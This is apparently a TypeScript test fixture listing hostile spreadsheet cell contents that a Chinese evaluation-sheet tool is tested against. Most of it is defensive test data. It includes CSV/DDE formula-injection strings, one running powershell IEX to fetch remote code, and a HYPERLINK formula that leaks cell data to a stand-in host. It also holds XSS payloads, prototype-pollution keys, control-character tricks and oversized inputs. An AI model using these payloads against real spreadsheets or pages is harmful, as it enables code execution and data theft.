import type { CellValue } from "../../src/domain/cells";

/**
 * Hostile cell contents: what arrives in 自评表 cells from Word pastes, other offices' files and
 * people probing the tool. Each entry is one cell's content as a host hands it over (value, and
 * a formula or number format where that is the point). Tests place every entry in every input
 * role of the seed's and the templates' sheets.
 */

export type HostileKind = "formulaText" | "markup" | "control" | "excelError" | "date" | "boolean" | "number" | "text" | "huge";

export interface HostileCell {
  readonly name: string;
  readonly kind: HostileKind;
  readonly value: CellValue;
  readonly numberFormat?: string;
  readonly formula?: string;
}

const text = (name: string, kind: HostileKind, value: string): HostileCell => ({ name, kind, value });

/** Texts that a spreadsheet would run as a formula (CSV/DDE injection) if jixiao ever wrote them as one. */
export const FORMULA_TEXTS: readonly string[] = [
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
  '=HYPERLINK("http://example.invalid/?leak="&A1,"点此查看")',
  "=1+1",
  "+1",
  "-1",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "＝1+1",
  '=98+N("jixiao")',
  '="等级：优"&T(N("jixiao"))',
];

export const EXCEL_ERRORS: readonly string[] = ["#DIV/0!", "#REF!", "#N/A", "#VALUE!", "#NAME?", "#NUM!", "#NULL!", "#SPILL!", "#CALC!"];

export const HOSTILE: readonly HostileCell[] = [
  ...FORMULA_TEXTS.map((t, i) => text(`formula-like text ${i + 1}`, "formulaText", t)),
  text("img onerror", "markup", "<img src=x onerror=alert(1)>"),
  text("script tag", "markup", "<script>alert('jixiao')</script>"),
  text("svg onload", "markup", "</td><svg onload=alert(1)>"),
  text("javascript url", "markup", "javascript:alert(1)"),
  text("html entities", "markup", "&lt;b&gt;&amp;&#x3C;"),
  text("template braces", "markup", "{field}{{constructor.constructor('alert(1)')()}}"),
  text("prototype key", "markup", "__proto__"),
  text("constructor key", "markup", "constructor"),
  text("number with a prototype unit", "markup", "10__proto__"),
  text("number with a constructor unit", "markup", "10constructor"),
  text("NUL", "control", "\u0000"),
  text("bell, backspace, ANSI colour", "control", "\u0007\b\u001b[31m红字\u001b[0m"),
  text("ANSI clear screen", "control", "\u001b[2J\u001b[H"),
  text("OSC hyperlink", "control", "\u001b]8;;http://example.invalid\u0007点我\u001b]8;;\u0007"),
  text("C1 controls", "control", "\u0085\u009b31m"),
  text("bidi override", "control", "\u202e优\u202c良"),
  text("zero-width and BOM", "control", "\u200b\u200d\ufeff52家"),
  text("lone surrogate", "control", "\ud800"),
  text("vertical tab, form feed", "control", "52\u000b家\u000c"),
  text("CR LF mix", "control", "a\r\nb\rc\nd"),
  ...EXCEL_ERRORS.map((e): HostileCell => ({ name: `Excel error ${e}`, kind: "excelError", value: { error: e } })),
  { name: "Excel error with formula", kind: "excelError", value: { error: "#REF!" }, formula: "=#REF!+1" },
  { name: "date serial (yyyy年m月d日)", kind: "date", value: 44196, numberFormat: 'yyyy"年"m"月"d"日"' },
  { name: "date serial (m/d/yy)", kind: "date", value: 44196, numberFormat: "m/d/yy" },
  { name: "date serial with time", kind: "date", value: 44196.75, numberFormat: "yyyy/m/d h:mm" },
  { name: "date serial 0", kind: "date", value: 0, numberFormat: "yyyy/m/d" },
  { name: "negative date serial", kind: "date", value: -1, numberFormat: "yyyy/m/d" },
  { name: "boolean TRUE", kind: "boolean", value: true },
  { name: "boolean FALSE", kind: "boolean", value: false },
  text("text TRUE", "boolean", "TRUE"),
  { name: "huge number", kind: "number", value: 1e308 },
  { name: "max double", kind: "number", value: Number.MAX_VALUE },
  { name: "negative huge", kind: "number", value: -1e308 },
  { name: "tiny number", kind: "number", value: Number.MIN_VALUE },
  { name: "negative", kind: "number", value: -10 },
  { name: "percent 95% typed", kind: "number", value: 0.95, numberFormat: "0%" },
  { name: "NaN (junk host)", kind: "number", value: Number.NaN },
  { name: "Infinity (junk host)", kind: "number", value: Number.POSITIVE_INFINITY },
  text("元 for 万元", "text", "1614000元"),
  text("万元 with thousands", "text", "1,614,000.00万元"),
  text("full-width digits", "text", "１６１．４万元"),
  text("Chinese numerals", "text", "一百六十一点四万元"),
  text("number with 300 digits", "huge", "9".repeat(300)),
  text("number with exponent", "huge", "1e999999999"),
  text("10,000 nested brackets", "huge", "(".repeat(10_000)),
  text("50,000 operators", "huge", "≥".repeat(50_000)),
  text("100,000 repeated clauses", "huge", "加强沟通协调服务，".repeat(10_000)),
];

/** A 10 MB string of a given flavour, built on demand (it is not kept in the corpus). */
export function tenMegabytes(flavour: "digits" | "cjk" | "spaces" | "formula"): string {
  const n = 10 * 1024 * 1024;
  switch (flavour) {
    case "digits":
      return "9".repeat(n);
    case "cjk":
      return "完".repeat(n / 3);
    case "spaces":
      return "\u3000".repeat(n / 3) + "10";
    case "formula":
      return `=${"A1+".repeat(n / 3)}1`;
  }
}
